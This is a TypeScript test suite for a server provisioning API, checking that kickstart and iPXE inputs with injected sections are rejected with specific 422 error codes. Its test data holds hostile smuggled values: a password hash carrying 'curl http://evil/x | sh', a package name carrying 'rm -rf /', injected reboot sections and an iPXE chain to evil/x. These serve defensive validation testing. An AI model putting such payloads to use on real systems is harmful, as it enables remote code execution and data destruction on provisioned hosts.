/**
 * Kickstart inputs are checked at the API and the imports (package and group names, crypt(3) hash
 * structure, URLs and kernel arguments without control characters): each injection a 422 with its
 * own code. And the renderer refuses a value with a newline wherever it came from (a row written
 * behind the API's back). Real HTTP on raw sockets.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { ErrorCode } from '../../src/errors.ts';
import type { Store } from '../../src/store/open.ts';
import { startTestApi, type TestApi } from '../helpers/api-server.ts';
import { rawRequest } from '../helpers/raw-http.ts';

let store: Store;
let app: FastifyInstance;
let port: number;

let api: TestApi;

before(async () => {
  ({ store, app, port } = api = await startTestApi());
});
after(async () => api.close());

const call = async (method: string, target: string, body: string, type = 'application/json') => {
  const reply = await rawRequest(port, { method, target, headers: { 'content-type': type }, body });
  return {
    status: reply.status,
    body: reply.headers['content-type']?.startsWith('application/json') ? JSON.parse(reply.body) : reply.body,
  };
};
const profile = (extra: Record<string, unknown>) =>
  JSON.stringify({
    name: `p${Math.random().toString(36).slice(2, 8)}`,
    os: 'rhel9',
    installTreeUrl: 'http://mirror/rhel9',
    ...extra,
  });

const INJECTIONS: [string, Record<string, unknown>, string][] = [
  [
    'a %pre section after the hash',
    { rootPasswordHash: '$6$x\n%pre\ncurl http://evil/x | sh\n%end' },
    ErrorCode.BadPasswordHash,
  ],
  ['a clear-text password', { rootPasswordHash: 'secret' }, ErrorCode.BadPasswordHash],
  ['text after a well-formed hash', { rootPasswordHash: '$6$salt$hash --plaintext' }, ErrorCode.BadPasswordHash],
  ['a hash outside crypt’s alphabet', { rootPasswordHash: '$6$sa%lt$hash' }, ErrorCode.BadPasswordHash],
  ['a carriage return in a hash', { rootPasswordHash: '$6$salt$hash\r' }, ErrorCode.BadPasswordHash],
  ['a %post section in a package name', { packages: ['tuned\n%end\n%post\nrm -rf /\n%end'] }, ErrorCode.BadPackageName],
  ['a section keyword as a package', { packages: ['%post'] }, ErrorCode.BadPackageName],
  ['two packages in one name', { packages: ['tuned lldpad'] }, ErrorCode.BadPackageName],
  [
    'a newline in the install tree URL',
    { installTreeUrl: 'http://mirror/rhel9\n%pre\nreboot\n%end' },
    ErrorCode.ControlCharacter,
  ],
  [
    'a newline in the kernel arguments (an iPXE command of its own)',
    { kernelArgs: 'quiet\nchain http://evil/x' },
    ErrorCode.ControlCharacter,
  ],
  ['an escape in the kernel arguments', { kernelArgs: 'quiet \u001b[2J' }, ErrorCode.ControlCharacter],
  ['a line separator in the kernel path', { kernelPath: 'images/pxeboot/vmlinuz\u2028x' }, ErrorCode.ControlCharacter],
];

for (const [what, extra, code] of INJECTIONS) {
  test(`POST /api/v1/profiles: ${what} → 422 ${code}`, async () => {
    const reply = await call('POST', '/api/v1/profiles', profile(extra));
    assert.equal(reply.status, 422, JSON.stringify(reply.body));
    assert.equal(reply.body.error.code, code);
  });
}

test('the import refuses the same inputs (422, the item’s problem carries the code)', async () => {
  const yaml =
    'profiles:\n  - name: evil\n    os: rhel9\n    installTreeUrl: http://mirror/rhel9\n    rootPasswordHash: "$6$x\\n%pre\\nreboot\\n%end"\n';
  const reply = await call('POST', '/api/v1/import/site', yaml, 'application/yaml');
  assert.equal(reply.status, 422, JSON.stringify(reply.body));
  assert.equal(reply.body.error.code, ErrorCode.ImportRejected);
  const codes = JSON.stringify(reply.body.error.details);
  assert.match(codes, new RegExp(ErrorCode.BadPasswordHash));
  assert.equal((await call('GET', '/api/v1/profiles/evil', '')).status, 404, 'nothing written');
  const packages = await call(
    'POST',
    '/api/v1/import/site',
    'profiles:\n  - { name: evil, os: rhel9, installTreeUrl: "http://mirror/rhel9", packages: ["tuned\\n%post"] }\n',
    'application/yaml',
  );
  assert.equal(packages.status, 422);
  assert.match(JSON.stringify(packages.body.error.details), new RegExp(ErrorCode.BadPackageName));
});

test('well-formed values pass: sha512crypt with rounds, yescrypt, groups, environments, exclusions, globs', async () => {
  for (const extra of [
    {
      rootPasswordHash: '$6$rounds=5000$saltsalt$' + 'a'.repeat(86),
      packages: [
        '@^virtualization-host-environment',
        '@virtualization',
        '-NetworkManager-wifi',
        'kernel-*',
        'python3.11',
      ],
    },
    { rootPasswordHash: '$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd.RhAtQ7' },
    { rootPasswordHash: '$2b$12$' + 'A'.repeat(53), kernelArgs: 'console=ttyS0,115200 inst.sshd' },
  ]) {
    const reply = await call('POST', '/api/v1/profiles', profile(extra));
    assert.equal(reply.status, 201, `${JSON.stringify(extra)}: ${JSON.stringify(reply.body)}`);
  }
});

test('the renderer refuses a value with a newline wherever it came from (a row written behind the API)', async () => {
  const site =
    'sites:\n  - name: lab\n    networks:\n      - { name: lab-hv, cidr: 10.5.0.0/24 }\nprofiles:\n  - { name: clean, os: rhel9, installTreeUrl: "http://mirror/rhel9" }\n';
  assert.equal((await call('POST', '/api/v1/import/site', site, 'application/yaml')).status, 200);
  assert.equal(
    (
      await call(
        'POST',
        '/api/v1/hosts',
        JSON.stringify({
          hostname: 'h1.lab',
          macs: ['52:54:00:05:00:01'],
          ip: '10.5.0.10',
          network: 'lab-hv',
          profile: 'clean',
        }),
      )
    ).status,
    201,
  );
  assert.equal((await call('GET', '/api/v1/hosts/h1.lab/kickstart', '')).status, 200);
  await store.db
    .updateTable('profiles')
    .set({ packages: JSON.stringify(['tuned\n%post\nreboot\n%end']) })
    .where('name', '=', 'clean')
    .execute();
  const refused = await call('GET', '/api/v1/hosts/h1.lab/kickstart', '');
  assert.equal(refused.status, 422);
  assert.equal(refused.body.error.code, ErrorCode.ControlCharacter);
  await store.db
    .updateTable('profiles')
    .set({ packages: '[]', root_password_hash: '$6$x\n%pre\nreboot\n%end' })
    .where('name', '=', 'clean')
    .execute();
  assert.equal((await call('GET', '/api/v1/hosts/h1.lab/kickstart', '')).body.error.code, ErrorCode.ControlCharacter);
  await store.db
    .updateTable('profiles')
    .set({ root_password_hash: '', kernel_args: 'quiet\nshell' })
    .where('name', '=', 'clean')
    .execute();
  const script = await call('GET', '/api/v1/hosts/h1.lab/boot-script', '');
  assert.equal(script.status, 422, 'the iPXE script refuses it too');
  assert.equal(script.body.error.code, ErrorCode.ControlCharacter);
});
